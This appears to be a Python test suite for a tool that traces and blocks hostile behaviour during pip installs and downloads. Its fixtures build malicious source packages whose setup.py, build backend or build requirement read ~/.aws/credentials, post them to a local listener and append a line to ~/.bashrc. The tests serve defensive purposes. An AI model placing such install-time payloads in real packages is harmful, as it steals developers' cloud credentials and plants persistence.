"""Hostile source packages in every form that pip builds: what they see and how the run ends."""

import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

import environment  # noqa: E402
from packages import SETUPTOOLS_BACKEND, make_sdist, make_wheel, setup_py  # noqa: E402
from pip_case import PipCase, vendor  # noqa: E402
from sinks import TcpSink, http_reply  # noqa: E402

STEAL = r'''
import os, urllib.request
try:
    stolen = open(os.path.expanduser("~/.aws/credentials")).read()
except OSError as error:
    stolen = "nothing: %%r" %% error
try:
    urllib.request.urlopen("http://127.0.0.1:%d/", data=stolen.encode(), timeout=5).read()
except OSError:
    pass
try:
    open(os.path.expanduser("~/.bashrc"), "a").write("echo owned\n")
except OSError:
    pass
'''


class Hostile(PipCase):
    def fill_index(self, folder):
        self.sink = TcpSink(reply=http_reply("thanks"))
        self.addCleanup(self.sink.close)
        steal = STEAL % self.sink.port
        vendor(folder)
        make_sdist(folder, "evil-modern", "1.0", {
            "setup.py": setup_py("evil-modern", "1.0", steal), "evil_modern.py": "",
            "pyproject.toml": SETUPTOOLS_BACKEND})
        make_sdist(folder, "evil-legacy", "1.1", {
            "setup.py": setup_py("evil-legacy", "1.1", steal), "evil_legacy.py": ""})
        make_sdist(folder, "evil-backend", "1.2", {
            "backend.py": steal + "\nfrom setuptools.build_meta import *\n",
            "setup.py": setup_py("evil-backend", "1.2"), "evil_backend.py": "",
            "pyproject.toml": '[build-system]\nrequires = ["setuptools", "wheel"]\n'
                              'build-backend = "backend"\nbackend-path = ["."]\n'})
        # A good package whose build requirement is the hostile one.
        make_wheel(folder, "evil-requirement", "1.3", {
            "evil_requirement.py": steal + "\nfrom setuptools.build_meta import *\n"},
            ["setuptools", "wheel"])
        make_sdist(folder, "victim", "1.4", {
            "setup.py": setup_py("victim", "1.4"), "victim.py": "",
            "pyproject.toml": '[build-system]\nrequires = ["evil-requirement"]\n'
                              'build-backend = "evil_requirement"\n'})

    def steals_bare(self, arguments):
        self.sink.clear()
        world, outcome = self.pip(arguments, False)
        marker = world.marker_of(".aws/credentials").encode()
        self.assertGreater(self.sink.count(marker), 0, "bare, it was not stolen\n"
                           + outcome.describe())
        with open(os.path.join(world.home, ".bashrc"), encoding="utf-8") as file:
            self.assertIn("owned", file.read())

    def is_stopped(self, arguments, name, version):
        self.steals_bare(arguments)
        if environment.safe_trace() is None:
            self.skipTest("SAFE_TRACE is not set: only the bare half ran")
        self.sink.clear()
        world, outcome = self.pip(arguments, True, status=120)
        self.assertTrue(self.sink.untouched, outcome.describe())
        with open(os.path.join(world.home, ".bashrc"), encoding="utf-8") as file:
            self.assertNotIn("owned", file.read())
        trace = self.trace(world)
        for what in (os.path.join(world.home, ".aws/credentials"),
                     os.path.join(world.home, ".bashrc"), str(self.sink.port)):
            self.assertTrue(trace.find(contains=[what], refused=True, package__name=name,
                                       package__version=version, safe_trace__role="package"),
                            "%s: %s" % (what, trace.describe()))
        self.assertIn(name.encode(), outcome.stderr, "said as it happens")
        return world

    def test_SetupPyUnderBuildIsolation(self):
        self.is_stopped(["install", "evil-modern"], "evil-modern", "1.0")

    def test_LegacySetupPy(self):
        self.is_stopped(["install", "--no-build-isolation", "evil-legacy"], "evil-legacy", "1.1")

    def test_BackendInTheTree(self):
        self.is_stopped(["install", "evil-backend"], "evil-backend", "1.2")

    def test_HostileBuildRequirement(self):
        self.is_stopped(["install", "victim"], "victim", "1.4")

    def test_DownloadAlsoRunsSetupPy(self):
        self.is_stopped(["download", "-d", "d", "evil-modern"], "evil-modern", "1.0")

    def test_NoFailOnViolationKeepsTheStatus(self):
        if environment.safe_trace() is None:
            self.skipTest("SAFE_TRACE is not set: only the bare half ran")
        self.pip(["install", "evil-modern"], True, options=["--no-fail-on-violation"], status=0)

    def test_TraceVerifiesAndIsPrivate(self):
        if environment.safe_trace() is None:
            self.skipTest("SAFE_TRACE is not set: only the bare half ran")
        import processes
        world, _ = self.pip(["install", "evil-modern"], True, status=120)
        path = self.trace(world).path
        self.assertEqual(0o600, os.stat(path).st_mode & 0o777)
        good = processes.run([environment.safe_trace(), "trace", "verify", path], world.env(),
                             world.project, 30)
        self.assertEqual(0, good.status, good.describe())
        with open(path, "rb") as file:
            lines = file.readlines()
        with open(path, "wb") as file:
            file.writelines(lines[:3] + lines[4:])
        bad = processes.run([environment.safe_trace(), "trace", "verify", path], world.env(),
                            world.project, 30)
        self.assertNotEqual(0, bad.status, "a missing line is found")

    def test_NoSecretIsInTheTrace(self):
        if environment.safe_trace() is None:
            self.skipTest("SAFE_TRACE is not set: only the bare half ran")
        world = self.new_world()
        world, outcome = self.pip(["install", "evil-modern"], True, status=120, world=world,
                                  env=world.secret_variables)
        with open(self.trace(world).path, encoding="utf-8", errors="replace") as file:
            text = file.read() + outcome.text
        for value in list(world.markers.values()) + list(world.secret_variables.values()):
            self.assertNotIn(value, text)
